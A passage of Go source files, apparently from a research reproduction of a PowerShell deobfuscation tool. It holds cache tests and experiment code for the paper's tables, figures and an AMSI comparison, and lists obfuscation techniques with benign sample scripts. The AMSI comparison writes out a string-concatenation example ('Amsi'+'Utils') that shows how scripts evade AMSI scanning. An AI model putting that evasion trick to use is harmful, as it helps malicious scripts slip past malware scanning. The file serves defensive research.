	out, ok := v.Lookup("'warm'", func(string) (string, bool) { return "", false })
	if !ok || out[0] != "warm" {
		t.Fatalf("lookup of preloaded entry = %v ok=%t", out, ok)
	}
	if got := c.Stats().WarmHits; got != 1 {
		t.Errorf("WarmHits = %d, want 1", got)
	}
	// Snapshot excludes binding-dependent entries.
	v.Insert("$a", []Binding{{Name: "a", FP: "s:x"}}, []any{"bound"})
	snaps := c.SnapshotSnippets()
	if len(snaps) != 1 || snaps[0].Text != "'warm'" || snaps[0].Lang != "fake" {
		t.Errorf("SnapshotSnippets = %+v, want only the zero-binding entry", snaps)
	}
}

func TestSnapshotRoundTrip(t *testing.T) {
	data := SnapshotData{
		Parse: []SnapshotEntry{
			{Lang: "powershell", Text: "Write-Host 'hi'"},
			{Lang: "javascript", Text: "console.log(1)"},
			{Lang: "powershell", Text: strings.Repeat("x", 4096)},
		},
		Eval: []SnapshotEntry{
			{Lang: "powershell", Text: "'a'+'b'"},
		},
	}
	var buf bytes.Buffer
	if err := EncodeSnapshot(&buf, data); err != nil {
		t.Fatal(err)
	}
	got, err := DecodeSnapshot(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	if len(got.Parse) != len(data.Parse) || len(got.Eval) != len(data.Eval) {
		t.Fatalf("round trip lost records: %d/%d parse, %d/%d eval",
			len(got.Parse), len(data.Parse), len(got.Eval), len(data.Eval))
	}
	for i := range data.Parse {
		if got.Parse[i] != data.Parse[i] {
			t.Errorf("parse record %d = %+v, want %+v", i, got.Parse[i], data.Parse[i])
		}
	}
	if got.Eval[0] != data.Eval[0] {
		t.Errorf("eval record = %+v, want %+v", got.Eval[0], data.Eval[0])
	}
}

func TestSnapshotEmptyRoundTrip(t *testing.T) {
	var buf bytes.Buffer
	if err := EncodeSnapshot(&buf, SnapshotData{}); err != nil {
		t.Fatal(err)
	}
	got, err := DecodeSnapshot(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if len(got.Parse) != 0 || len(got.Eval) != 0 {
		t.Errorf("empty snapshot decoded to %+v", got)
	}
}

// TestSnapshotCorruptionRejected mutilates a valid snapshot every way
// the loader must survive: truncation at each boundary, bad magic, bad
// version, insane counts, flipped payload bytes, trailing garbage. All
// must yield ErrSnapshotCorrupt — the caller then starts cold.
func TestSnapshotCorruptionRejected(t *testing.T) {
	var buf bytes.Buffer
	err := EncodeSnapshot(&buf, SnapshotData{
		Parse: []SnapshotEntry{{Lang: "powershell", Text: "Write-Host 'hi'"}},
		Eval:  []SnapshotEntry{{Lang: "powershell", Text: "'a'+'b'"}},
	})
	if err != nil {
		t.Fatal(err)
	}
	valid := buf.Bytes()

	mutate := func(name string, f func([]byte) []byte) {
		t.Run(name, func(t *testing.T) {
			b := append([]byte(nil), valid...)
			b = f(b)
			if _, err := DecodeSnapshot(bytes.NewReader(b)); !errors.Is(err, ErrSnapshotCorrupt) {
				t.Errorf("corrupt variant decoded without ErrSnapshotCorrupt: %v", err)
			}
		})
	}
	mutate("empty", func(b []byte) []byte { return nil })
	mutate("truncated-magic", func(b []byte) []byte { return b[:4] })
	mutate("truncated-header", func(b []byte) []byte { return b[:10] })
	mutate("truncated-mid-record", func(b []byte) []byte { return b[:len(b)/2] })
	mutate("truncated-checksum", func(b []byte) []byte { return b[:len(b)-2] })
	mutate("bad-magic", func(b []byte) []byte { b[0] ^= 0xFF; return b })
	mutate("bad-version", func(b []byte) []byte { b[8] = 0xEE; return b })
	mutate("insane-count", func(b []byte) []byte {
		b[12], b[13], b[14], b[15] = 0xFF, 0xFF, 0xFF, 0xFF
		return b
	})
	mutate("flipped-payload-byte", func(b []byte) []byte { b[len(b)-8] ^= 0x01; return b })
	mutate("trailing-garbage", func(b []byte) []byte { return append(b, 0xAA) })
}
