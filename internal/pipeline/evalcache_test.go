package pipeline

import (
	"fmt"
	"sync"
	"testing"
)

// fakeOps is a stub EvalOps with a slice-aware deep copier so the
// aliasing tests can detect shallow copies. The eval cache is
// language-neutral; tests run against a fake instead of a frontend.
type fakeOps struct{ name string }

func (o fakeOps) Name() string { return o.name }

func (o fakeOps) CopyValue(v any) (any, bool) {
	switch x := v.(type) {
	case string, int64, int, float64, bool, nil:
		return x, true
	case []any:
		out := make([]any, len(x))
		for i, e := range x {
			cp, ok := o.CopyValue(e)
			if !ok {
				return nil, false
			}
			out[i] = cp
		}
		return out, true
	}
	return nil, false
}

func (o fakeOps) ValueSize(v any) int {
	if s, ok := v.(string); ok {
		return len(s)
	}
	return 16
}

func testOps() fakeOps { return fakeOps{name: "fake"} }

func fpOf(env map[string]string) func(string) (string, bool) {
	return func(name string) (string, bool) {
		fp, ok := env[name]
		return fp, ok
	}
}

func TestEvalCacheHitRequiresSameBindings(t *testing.T) {
	c := NewEvalCache(0, 0)
	v := c.View(testOps())
	v.Insert("$a + $b", []Binding{{"a", "s:x"}, {"b", "i:2"}}, []any{"x2"})

	// Identical bindings: hit.
	out, ok := v.Lookup("$a + $b", fpOf(map[string]string{"a": "s:x", "b": "i:2"}))
	if !ok || len(out) != 1 || out[0] != "x2" {
		t.Fatalf("want hit [x2], got %v ok=%t", out, ok)
	}
	// Same text, different value of a read variable: miss.
	if _, ok := v.Lookup("$a + $b", fpOf(map[string]string{"a": "s:y", "b": "i:2"})); ok {
		t.Error("hit despite changed binding value")
	}
	// Same text, missing variable: miss.
	if _, ok := v.Lookup("$a + $b", fpOf(map[string]string{"a": "s:x"})); ok {
		t.Error("hit despite missing binding")
	}
	// Different text: miss.
	if _, ok := v.Lookup("$a + $c", fpOf(map[string]string{"a": "s:x", "b": "i:2"})); ok {
		t.Error("hit on different snippet text")
	}
	// Extra unrelated variables do not prevent a hit (the run never
	// read them).
	out, ok = v.Lookup("$a + $b", fpOf(map[string]string{"a": "s:x", "b": "i:2", "z": "s:junk"}))
	if !ok || out[0] != "x2" {
		t.Errorf("extra unread variables must not block a hit: %v ok=%t", out, ok)
	}
	if v.Hits != 2 || v.Misses != 1 {
		t.Errorf("view = %d hits / %d misses, want 2/1", v.Hits, v.Misses)
	}
}

// TestEvalCacheLangNamespacing: identical snippet bytes inserted under
// one language must be invisible to another language's view.
func TestEvalCacheLangNamespacing(t *testing.T) {
	c := NewEvalCache(0, 0)
	ps := c.View(fakeOps{name: "powershell"})
	js := c.View(fakeOps{name: "javascript"})
	ps.Insert("'a' + 'b'", nil, []any{"ab"})
	if _, ok := js.Lookup("'a' + 'b'", fpOf(nil)); ok {
		t.Error("javascript view hit a powershell entry")
	}
	if out, ok := ps.Lookup("'a' + 'b'", fpOf(nil)); !ok || out[0] != "ab" {
		t.Errorf("powershell view should hit its own entry: %v ok=%t", out, ok)
	}
	js.Insert("'a' + 'b'", nil, []any{"AB-js"})
	st := c.Stats()
	if st.Entries != 2 {
		t.Errorf("entries = %d, want 2 (one per language)", st.Entries)
	}
	ls := c.LangStats()
	if got := ls["powershell"]; got.Hits != 1 || got.Misses != 1 {
		t.Errorf("powershell eval stats = %+v, want 1 hit / 1 miss", got)
	}
	if got := ls["javascript"]; got.Hits != 0 || got.Misses != 1 {
		t.Errorf("javascript eval stats = %+v, want 0 hits / 1 miss", got)
	}
}

func TestEvalCacheNoBindingSnippets(t *testing.T) {
	c := NewEvalCache(0, 0)
	v := c.View(testOps())
	v.Insert("1 + 1", nil, []any{int64(2)})
	out, ok := v.Lookup("1 + 1", fpOf(nil))
	if !ok || out[0] != int64(2) {
		t.Fatalf("binding-free snippet should hit: %v ok=%t", out, ok)
	}
	// nil output values round-trip.
	v.Insert("$null", nil, nil)
	out, ok = v.Lookup("$null", fpOf(nil))
	if !ok || out != nil {
		t.Errorf("nil values should replay as nil: %v ok=%t", out, ok)
	}
}

func TestEvalCacheDeepCopiesBothWays(t *testing.T) {
	c := NewEvalCache(0, 0)
	v := c.View(testOps())
	orig := []any{[]any{"a", "b"}}
	v.Insert("x", nil, orig)
	// Mutating the inserted slice must not corrupt the cache.
	orig[0].([]any)[0] = "MUTATED"
	out, ok := v.Lookup("x", fpOf(nil))
	if !ok {
		t.Fatal("want hit")
	}
	if got := out[0].([]any)[0]; got != "a" {
		t.Errorf("insert did not deep-copy: cached %v", got)
	}
	// Mutating a hit's result must not corrupt later hits.
	out[0].([]any)[1] = "MUTATED"
	out2, _ := v.Lookup("x", fpOf(nil))
	if got := out2[0].([]any)[1]; got != "b" {
		t.Errorf("lookup did not deep-copy: second hit sees %v", got)
	}
}

func TestEvalCacheRefusedValuesAreSkips(t *testing.T) {
	c := NewEvalCache(0, 0)
	v := c.View(testOps())
	type opaque struct{}
	v.Insert("x", nil, []any{opaque{}}) // copier refuses
	if _, ok := v.Lookup("x", fpOf(nil)); ok {
		t.Error("uncopyable value was cached")
	}
	st := c.Stats()
	if st.Entries != 0 || st.Skips == 0 {
		t.Errorf("stats = %+v, want 0 entries and >0 skips", st)
	}
}

func TestEvalCacheEntryAndByteBounds(t *testing.T) {
	c := NewEvalCache(4, 0)
	v := c.View(testOps())
	for i := 0; i < 20; i++ {
		v.Insert(fmt.Sprintf("snippet %d", i), nil, []any{int64(i)})
	}
	st := c.Stats()
	if st.Entries > 4 {
		t.Errorf("entries = %d, want <= 4", st.Entries)
	}
	if st.Evictions != 16 {
		t.Errorf("evictions = %d, want 16", st.Evictions)
	}
	// Byte budget: every entry charges at least snippet+64 bytes.
	cb := NewEvalCache(0, 256)
	vb := cb.View(testOps())
	for i := 0; i < 20; i++ {
		vb.Insert(fmt.Sprintf("snippet-%04d", i), nil, []any{"v"})
	}
	stb := cb.Stats()
	if stb.Bytes > 256 {
		t.Errorf("bytes = %d, want <= 256", stb.Bytes)
	}
	if stb.Evictions == 0 {
		t.Error("no evictions under a 256-byte budget")
	}
}

func TestEvalCachePerSnippetChainBound(t *testing.T) {
	c := NewEvalCache(0, 0)
	v := c.View(testOps())
	// One snippet under ever-changing bindings must not grow an
	// unbounded chain.
	for i := 0; i < 50; i++ {
		v.Insert("$a", []Binding{{"a", fmt.Sprintf("i:%d", i)}}, []any{int64(i)})
	}
	st := c.Stats()
	if st.Entries > maxEntriesPerSnippet {
		t.Errorf("entries = %d, want <= %d", st.Entries, maxEntriesPerSnippet)
	}
	// Duplicate insert dedups instead of adding an entry.
	before := c.Stats().Entries
	v.Insert("$a", []Binding{{"a", "i:0"}}, []any{int64(0)})
	if after := c.Stats().Entries; after != before {
		t.Errorf("duplicate insert grew the cache: %d -> %d", before, after)
	}
}

func TestEvalCacheOversizeSnippetNotCached(t *testing.T) {
	c := NewEvalCache(0, 0)
	v := c.View(testOps())
	big := string(make([]byte, maxCacheableSnippet+1))
	v.Insert(big, nil, []any{"x"})
	if st := c.Stats(); st.Entries != 0 {
		t.Errorf("oversize snippet was cached: %+v", st)
	}
	if _, ok := v.Lookup(big, fpOf(nil)); ok {
		t.Error("oversize lookup hit")
	}
}

func TestEvalViewNilReceiverSafe(t *testing.T) {
	var v *EvalView
	if v.Enabled() {
		t.Error("nil view enabled")
	}
	if _, ok := v.Lookup("x", fpOf(nil)); ok {
		t.Error("nil view hit")
	}
	v.Insert("x", nil, []any{"v"}) // must not panic
	v.Skip()                       // must not panic
	if v.Cache() != nil {
		t.Error("nil view has a cache")
	}
	var c *EvalCache
	if c.View(testOps()) != nil {
		t.Error("nil cache yields non-nil view")
	}
	// A view with no ops is disabled too.
	live := NewEvalCache(0, 0)
	if live.View(nil).Enabled() {
		t.Error("ops-less view enabled")
	}
}

func TestEvalCacheConcurrent(t *testing.T) {
	c := NewEvalCache(64, 0)
	var wg sync.WaitGroup
	for w := 0; w < 8; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			v := c.View(testOps()) // each worker owns its view, like batch runs
			for i := 0; i < 200; i++ {
				snippet := fmt.Sprintf("s%d", i%16)
				env := fpOf(map[string]string{"a": "i:1"})
				if out, ok := v.Lookup(snippet, env); ok {
					if out[0] != snippet {
						t.Errorf("worker %d: wrong value %v for %s", w, out[0], snippet)
					}
					continue
				}
				v.Insert(snippet, []Binding{{"a", "i:1"}}, []any{snippet})
			}
		}(w)
	}
	wg.Wait()
	st := c.Stats()
	if st.Hits == 0 || st.Misses == 0 {
		t.Errorf("no traffic recorded: %+v", st)
	}
}
