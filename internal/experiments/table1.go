package experiments

import (
	"fmt"

	"github.com/invoke-deobfuscation/invokedeob/internal/corpus"
	"github.com/invoke-deobfuscation/invokedeob/internal/score"
)

// Table1Result reproduces Table I: the proportion of samples carrying
// obfuscation at each level.
type Table1Result struct {
	Total int
	// SamplesAt[level] counts samples where any technique of that level
	// was detected (levels may overlap, so proportions exceed 100%).
	SamplesAt [4]int
	// Obfuscated counts samples with any detection at all.
	Obfuscated int
}

// Table1 generates a corpus and measures obfuscation-level prevalence.
func Table1(cfg Config) *Table1Result {
	cfg = cfg.withDefaults(2000)
	samples := corpus.Generate(corpus.Config{Seed: cfg.Seed, N: cfg.Samples})
	res := &Table1Result{Total: len(samples)}
	for _, s := range samples {
		rep := score.Analyze(s.Source)
		any := false
		for level := 1; level <= 3; level++ {
			if rep.Levels[level] {
				res.SamplesAt[level]++
				any = true
			}
		}
		if any {
			res.Obfuscated++
		}
	}
	return res
}

// String renders the paper-shaped table.
func (r *Table1Result) String() string {
	rows := [][]string{
		{"L1", fmt.Sprint(r.SamplesAt[1]), pct(r.SamplesAt[1], r.Total)},
		{"L2", fmt.Sprint(r.SamplesAt[2]), pct(r.SamplesAt[2], r.Total)},
		{"L3", fmt.Sprint(r.SamplesAt[3]), pct(r.SamplesAt[3], r.Total)},
	}
	out := "Table I: Proportion of obfuscation at different levels.\n"
	out += table([]string{"Obfuscation Level", "#Samples", "Proportion"}, rows)
	out += fmt.Sprintf("(total=%d, obfuscated=%s)\n", r.Total, pct(r.Obfuscated, r.Total))
	return out
}
