// Package experiments regenerates every table and figure of the
// paper's evaluation (§IV): Table I (obfuscation level prevalence),
// Table II (per-technique deobfuscation ability), Figures 5 and 6
// (key-information recovery and deobfuscation time), Table III
// (multi-layer handling), Table IV (behavioural consistency) and
// Table V (obfuscation mitigation), plus the ablations called out in
// DESIGN.md.
//
// Each experiment takes a Config (seed + scale) and returns a result
// with a String() rendering shaped like the paper's table.
package experiments

import (
	"fmt"
	"strings"
	"time"

	"github.com/invoke-deobfuscation/invokedeob/internal/baselines"
)

// Config scales an experiment run.
type Config struct {
	// Seed drives corpus generation.
	Seed int64
	// Samples is the per-experiment sample count (each experiment has a
	// paper-matching default when zero).
	Samples int
	// Quick reduces simulated execution latency so test runs stay fast;
	// full runs keep realistic latency (Fig. 6 depends on it).
	Quick bool
}

func (c Config) withDefaults(defaultSamples int) Config {
	if c.Samples == 0 {
		c.Samples = defaultSamples
	}
	if c.Seed == 0 {
		c.Seed = 20220622 // DSN'22 presentation date
	}
	return c
}

// applyLatency installs the latency profile for the run and returns a
// restore function.
func (c Config) applyLatency() func() {
	if !c.Quick {
		return func() {}
	}
	prev := baselines.SetLatency(baselines.Latency{Net: 2 * time.Millisecond, SleepCap: 5 * time.Millisecond})
	return func() { baselines.SetLatency(prev) }
}

// tools returns the five tools in paper order.
func tools() []baselines.Tool { return baselines.AllTools() }

// table renders rows of columns with aligned widths.
func table(header []string, rows [][]string) string {
	widths := make([]int, len(header))
	for i, h := range header {
		widths[i] = len(h)
	}
	for _, r := range rows {
		for i, c := range r {
			if i < len(widths) && len(c) > widths[i] {
				widths[i] = len(c)
			}
		}
	}
	var sb strings.Builder
	writeRow := func(cells []string) {
		for i, c := range cells {
			if i > 0 {
				sb.WriteString("  ")
			}
			sb.WriteString(c)
			if i < len(cells)-1 {
				sb.WriteString(strings.Repeat(" ", widths[i]-len(c)))
			}
		}
		sb.WriteByte('\n')
	}
	writeRow(header)
	total := 0
	for _, w := range widths {
		total += w + 2
	}
	sb.WriteString(strings.Repeat("-", total))
	sb.WriteByte('\n')
	for _, r := range rows {
		writeRow(r)
	}
	return sb.String()
}

func pct(n, d int) string {
	if d == 0 {
		return "-"
	}
	return fmt.Sprintf("%.1f%%", 100*float64(n)/float64(d))
}

func pctF(f float64) string {
	return fmt.Sprintf("%.1f%%", 100*f)
}
