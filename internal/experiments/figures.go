package experiments

import (
	"fmt"
	"sort"
	"time"

	"github.com/invoke-deobfuscation/invokedeob/internal/corpus"
	"github.com/invoke-deobfuscation/invokedeob/internal/keyinfo"
)

// Figure5Result reproduces Fig. 5: the amount of key information (ps1
// files, PowerShell commands, URLs, IPs) each tool's output exposes,
// against the ground-truth ("manual") benchmark.
type Figure5Result struct {
	Samples int
	// Manual holds ground-truth counts per kind.
	Manual map[keyinfo.Kind]int
	// PerTool maps tool name to recovered counts per kind.
	PerTool map[string]map[keyinfo.Kind]int
	Order   []string
}

// Figure5 runs the key-information experiment on corpus samples sized
// like the paper's (97 B – 2 KB).
func Figure5(cfg Config) *Figure5Result {
	cfg = cfg.withDefaults(100)
	restore := cfg.applyLatency()
	defer restore()
	samples := sizedSamples(cfg, 97, 2048, cfg.Samples)
	res := &Figure5Result{
		Samples: len(samples),
		Manual:  map[keyinfo.Kind]int{},
		PerTool: map[string]map[keyinfo.Kind]int{},
	}
	for _, tool := range tools() {
		res.Order = append(res.Order, tool.Name())
		res.PerTool[tool.Name()] = map[keyinfo.Kind]int{}
	}
	kinds := []keyinfo.Kind{keyinfo.KindPs1, keyinfo.KindPowerShell, keyinfo.KindURL, keyinfo.KindIP}
	for _, s := range samples {
		truth := s.KeyInfo
		for _, k := range kinds {
			res.Manual[k] += truth.CountKind(k)
		}
		for _, tool := range tools() {
			out, err := tool.Deobfuscate(s.Source)
			if err != nil {
				out = s.Source
			}
			got := keyinfo.Extract(out)
			matches := keyinfo.Matches(got, truth)
			for _, k := range kinds {
				res.PerTool[tool.Name()][k] += matches[k]
			}
		}
	}
	return res
}

// sizedSamples generates corpus samples filtered to a byte-size window,
// topping up generation until n match.
func sizedSamples(cfg Config, minSize, maxSize, n int) []*corpus.Sample {
	var out []*corpus.Sample
	batch := n * 3
	seed := cfg.Seed
	for attempts := 0; len(out) < n && attempts < 8; attempts++ {
		for _, s := range corpus.Generate(corpus.Config{Seed: seed, N: batch}) {
			if len(s.Source) >= minSize && len(s.Source) <= maxSize {
				out = append(out, s)
				if len(out) == n {
					break
				}
			}
		}
		seed += 1000003
	}
	return out
}

// Total returns the sum across kinds for a tool entry.
func total(counts map[keyinfo.Kind]int) int {
	t := 0
	for _, v := range counts {
		t += v
	}
	return t
}

// String renders the figure as a table.
func (r *Figure5Result) String() string {
	header := []string{"Tool", "ps1", "PowerShell", "URL", "IP", "Total", "vs manual"}
	manualTotal := total(r.Manual)
	rows := [][]string{{
		"Manual (truth)",
		fmt.Sprint(r.Manual[keyinfo.KindPs1]),
		fmt.Sprint(r.Manual[keyinfo.KindPowerShell]),
		fmt.Sprint(r.Manual[keyinfo.KindURL]),
		fmt.Sprint(r.Manual[keyinfo.KindIP]),
		fmt.Sprint(manualTotal),
		"100%",
	}}
	for _, name := range r.Order {
		c := r.PerTool[name]
		rows = append(rows, []string{
			name,
			fmt.Sprint(c[keyinfo.KindPs1]),
			fmt.Sprint(c[keyinfo.KindPowerShell]),
			fmt.Sprint(c[keyinfo.KindURL]),
			fmt.Sprint(c[keyinfo.KindIP]),
			fmt.Sprint(total(c)),
			pct(total(c), manualTotal),
		})
	}
	return fmt.Sprintf("Figure 5: Key information recovered by different tools (%d samples).\n%s",
		r.Samples, table(header, rows))
}

// ToolTiming summarizes one tool's per-sample deobfuscation times.
type ToolTiming struct {
	Tool    string
	Times   []time.Duration
	Mean    time.Duration
	Median  time.Duration
	P90     time.Duration
	Max     time.Duration
	Timeout int
}

// Figure6Result reproduces Fig. 6: per-sample deobfuscation time of the
// five tools.
type Figure6Result struct {
	Samples int
	Tools   []ToolTiming
}

// Figure6 measures deobfuscation wall-clock time per sample.
func Figure6(cfg Config) *Figure6Result {
	cfg = cfg.withDefaults(100)
	restore := cfg.applyLatency()
	defer restore()
	samples := sizedSamples(cfg, 97, 2048, cfg.Samples)
	res := &Figure6Result{Samples: len(samples)}
	for _, tool := range tools() {
		timing := ToolTiming{Tool: tool.Name()}
		for _, s := range samples {
			start := time.Now()
			_, _ = tool.Deobfuscate(s.Source)
			timing.Times = append(timing.Times, time.Since(start))
		}
		timing.finalize()
		res.Tools = append(res.Tools, timing)
	}
	return res
}

func (t *ToolTiming) finalize() {
	if len(t.Times) == 0 {
		return
	}
	sorted := append([]time.Duration(nil), t.Times...)
	sort.Slice(sorted, func(i, j int) bool { return sorted[i] < sorted[j] })
	var sum time.Duration
	for _, d := range sorted {
		sum += d
	}
	t.Mean = sum / time.Duration(len(sorted))
	t.Median = sorted[len(sorted)/2]
	t.P90 = sorted[len(sorted)*9/10]
	t.Max = sorted[len(sorted)-1]
}

// String renders the timing distribution.
func (r *Figure6Result) String() string {
	header := []string{"Tool", "Mean", "Median", "P90", "Max"}
	var rows [][]string
	for _, t := range r.Tools {
		rows = append(rows, []string{
			t.Tool,
			t.Mean.Round(time.Microsecond * 100).String(),
			t.Median.Round(time.Microsecond * 100).String(),
			t.P90.Round(time.Microsecond * 100).String(),
			t.Max.Round(time.Microsecond * 100).String(),
		})
	}
	return fmt.Sprintf("Figure 6: Deobfuscation time of different tools (%d samples).\n%s",
		r.Samples, table(header, rows))
}
