package experiments

import "testing"

func TestDatasetFunnelShape(t *testing.T) {
	res := DatasetFunnel(Config{Samples: 120})
	t.Logf("\n%s", res)
	if res.Raw <= res.Valid || res.Valid < res.PowerShell || res.PowerShell <= res.Deduplicated {
		t.Errorf("funnel not strictly narrowing: %+v", res)
	}
	// The paper keeps ~2% of raw; our synthetic feed has fewer
	// duplicates, but the dedup stage must still collapse family
	// variants substantially.
	if float64(res.Deduplicated) > 0.6*float64(res.Raw) {
		t.Errorf("dedup too weak: %d of %d", res.Deduplicated, res.Raw)
	}
}
