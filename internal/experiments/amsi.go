package experiments

import (
	"fmt"
	"strings"

	"github.com/invoke-deobfuscation/invokedeob/internal/baselines"
	"github.com/invoke-deobfuscation/invokedeob/internal/obfuscate"
)

// AMSIRow is one technique's comparison between AMSI and our tool.
type AMSIRow struct {
	Technique obfuscate.Technique
	Level     int
	AMSI      bool
	Ours      bool
}

// AMSIResult reproduces the §V-B comparison: AMSI recovers only
// obfuscation that is invoked through the scripting engine, while the
// deobfuscator also recovers non-invoked obfuscation.
type AMSIResult struct {
	Rows []AMSIRow
	// BypassExposed reports whether each tool reveals the paper's
	// 'Amsi'+'Utils' concatenation bypass.
	AMSIBypassExposed bool
	OursBypassExposed bool
}

// AMSIComparison runs every technique through AMSI and our tool.
func AMSIComparison(cfg Config) *AMSIResult {
	cfg = cfg.withDefaults(0)
	restore := cfg.applyLatency()
	defer restore()
	amsi := baselines.AMSI{}
	ours := baselines.InvokeDeobfuscation{}
	res := &AMSIResult{}
	// The per-technique seed scripts and success criteria mirror
	// Table II's (case-sensitive for random case, the rename marker for
	// random names).
	for _, tc := range table2Cases {
		obf, err := obfuscate.New(cfg.Seed).Apply(tc.script, tc.tech)
		if err != nil {
			continue
		}
		row := AMSIRow{Technique: tc.tech, Level: tc.level}
		if out, err := amsi.Deobfuscate(obf); err == nil {
			row.AMSI = containsWant(out, tc.want, tc.caseSensitive)
		}
		if out, err := ours.Deobfuscate(obf); err == nil {
			row.Ours = containsWant(out, tc.want, tc.caseSensitive)
		}
		res.Rows = append(res.Rows, row)
	}
	// The paper's bypass example: a malicious marker assembled by
	// concatenation never reaches the engine, so AMSI cannot see it.
	bypass := "$m = 'Amsi'+'Utils'\nwrite-host $m"
	if out, err := amsi.Deobfuscate(bypass); err == nil {
		res.AMSIBypassExposed = strings.Contains(out, "AmsiUtils")
	}
	if out, err := ours.Deobfuscate(bypass); err == nil {
		res.OursBypassExposed = strings.Contains(out, "AmsiUtils")
	}
	return res
}

// String renders the comparison.
func (r *AMSIResult) String() string {
	mark := func(b bool) string {
		if b {
			return "Y"
		}
		return "x"
	}
	var rows [][]string
	for _, row := range r.Rows {
		rows = append(rows, []string{
			fmt.Sprintf("L%d", row.Level), string(row.Technique),
			mark(row.AMSI), mark(row.Ours),
		})
	}
	out := "AMSI comparison (paper §V-B): recovery per technique.\n"
	out += table([]string{"Lv", "Technique", "AMSI", "Our tool"}, rows)
	out += fmt.Sprintf("'Amsi'+'Utils' bypass exposed: AMSI=%s, our tool=%s\n",
		mark(r.AMSIBypassExposed), mark(r.OursBypassExposed))
	return out
}
