package experiments

import (
	"strings"

	"github.com/invoke-deobfuscation/invokedeob/internal/obfuscate"
)

// Table2Row is one technique's result across tools.
type Table2Row struct {
	Level     int
	Type      string
	Subtype   string
	Technique obfuscate.Technique
	// PerTool maps tool name to positions recovered (0..3).
	PerTool map[string]int
}

// Table2Result reproduces Table II: per-technique deobfuscation
// ability of the five tools, each technique tested in the paper's
// three positions (separate line, assignment, part of a pipe).
type Table2Result struct {
	Tools []string
	Rows  []Table2Row
}

// table2Cases lists the Table II rows and the seed scripts that make
// each technique applicable. caseSensitive rows require the canonical
// casing back (random case is otherwise invisible to a case-folded
// comparison).
var table2Cases = []struct {
	level         int
	typ           string
	subtype       string
	tech          obfuscate.Technique
	script        string
	want          string
	caseSensitive bool
	embedded      bool // whether the obfuscated result can sit inside the 3 positions
}{
	{1, "Randomization", "Ticking", obfuscate.Ticking, "write-host hello", "write-host hello", false, true},
	{1, "Randomization", "Whitespacing", obfuscate.Whitespacing, "write-host  hello", "write-host hello", false, true},
	{1, "Randomization", "Random Case", obfuscate.RandomCase, "write-host hello", "Write-Host hello", true, true},
	{1, "Randomization", "Random Name", obfuscate.RandomName, "$msg = 'hello'\nwrite-host $msg", "$var0", false, false},
	{1, "Alias", "-", obfuscate.Alias, "write-output hello", "write-output hello", false, true},
	{2, "String-related", "Concatenate", obfuscate.Concat, "write-host hello", "write-host hello", false, true},
	{2, "String-related", "Reorder", obfuscate.Reorder, "write-host hello", "write-host hello", false, true},
	{2, "String-related", "Replace", obfuscate.Replace, "write-host hello", "write-host hello", false, true},
	{2, "String-related", "Reverse", obfuscate.Reverse, "write-host hello", "write-host hello", false, true},
	{3, "Encoding", "Binary", obfuscate.EncodeBinary, "write-host hello", "write-host hello", false, true},
	{3, "Encoding", "Octal", obfuscate.EncodeOctal, "write-host hello", "write-host hello", false, true},
	{3, "Encoding", "ASCII", obfuscate.EncodeASCII, "write-host hello", "write-host hello", false, true},
	{3, "Encoding", "Hex", obfuscate.EncodeHex, "write-host hello", "write-host hello", false, true},
	{3, "Encoding", "Base64", obfuscate.EncodeBase64, "write-host hello", "write-host hello", false, true},
	{3, "Encoding", "Whitespace", obfuscate.EncodeWhitespace, "write-host hello", "write-host hello", false, false},
	{3, "Encoding", "Specialchar", obfuscate.EncodeSpecialChar, "write-host hello", "write-host hello", false, true},
	{3, "Encoding", "Bxor", obfuscate.EncodeBxor, "write-host hello", "write-host hello", false, true},
	{3, "SecureString", "-", obfuscate.SecureString, "write-host hello", "write-host hello", false, true},
	{3, "Compress", "DeflateStream", obfuscate.CompressDeflate, "write-host hello", "write-host hello", false, true},
	{3, "Compress", "GzipStream", obfuscate.CompressGzip, "write-host hello", "write-host hello", false, true},
}

// Table2 runs the ability matrix.
func Table2(cfg Config) *Table2Result {
	cfg = cfg.withDefaults(0)
	restore := cfg.applyLatency()
	defer restore()
	res := &Table2Result{}
	for _, tool := range tools() {
		res.Tools = append(res.Tools, tool.Name())
	}
	// Each technique is sampled with several obfuscator seeds; a tool
	// gets credit for a position only when it recovers it for every
	// sample. This measures robust ability, which is what the paper's
	// check marks denote (techniques randomize their spelling, and a
	// tool that only handles some spellings is not able).
	const seedsPerRow = 6
	for _, tc := range table2Cases {
		row := Table2Row{
			Level:     tc.level,
			Type:      tc.typ,
			Subtype:   tc.subtype,
			Technique: tc.tech,
			PerTool:   make(map[string]int),
		}
		recoveredAll := make(map[string][3]bool)
		for _, tool := range tools() {
			recoveredAll[tool.Name()] = [3]bool{true, true, true}
		}
		applied := false
		for seedIdx := 0; seedIdx < seedsPerRow; seedIdx++ {
			o := obfuscate.New(cfg.Seed + int64(seedIdx)*7919)
			obf, err := o.Apply(tc.script, tc.tech)
			if err != nil {
				continue
			}
			applied = true
			positions := buildPositions(obf, tc.embedded)
			for _, tool := range tools() {
				marks := recoveredAll[tool.Name()]
				for pi, pos := range positions {
					out, derr := tool.Deobfuscate(pos)
					ok := derr == nil && containsWant(out, tc.want, tc.caseSensitive)
					marks[pi] = marks[pi] && ok
				}
				recoveredAll[tool.Name()] = marks
			}
		}
		for _, tool := range tools() {
			n := 0
			if applied {
				for _, ok := range recoveredAll[tool.Name()] {
					if ok {
						n++
					}
				}
			}
			row.PerTool[tool.Name()] = n
		}
		res.Rows = append(res.Rows, row)
	}
	return res
}

func containsWant(out, want string, caseSensitive bool) bool {
	if caseSensitive {
		return strings.Contains(out, want)
	}
	return strings.Contains(strings.ToLower(out), strings.ToLower(want))
}

// buildPositions embeds an obfuscated piece in the paper's three
// positions: separate line, assignment expression, and part of a pipe.
func buildPositions(obf string, embeddable bool) []string {
	if !embeddable || strings.Contains(obf, "\n") {
		// Multi-line results embed via a subexpression.
		return []string{
			obf,
			"$fmp = $(\n" + obf + "\n)",
			"$(\n" + obf + "\n) | out-null",
		}
	}
	return []string{
		obf,
		"$fmp = " + obf,
		obf + " | out-null",
	}
}

// Mark renders a per-tool cell the way the paper does: ✓ for all three
// positions, ◯ for partial, ✗ for none.
func Mark(recovered int) string {
	switch {
	case recovered >= 3:
		return "Y"
	case recovered > 0:
		return "p"
	default:
		return "x"
	}
}

// String renders the ability matrix.
func (r *Table2Result) String() string {
	header := append([]string{"Lv", "Type", "Subtype"}, r.Tools...)
	var rows [][]string
	for _, row := range r.Rows {
		cells := []string{
			map[int]string{1: "1", 2: "2", 3: "3"}[row.Level],
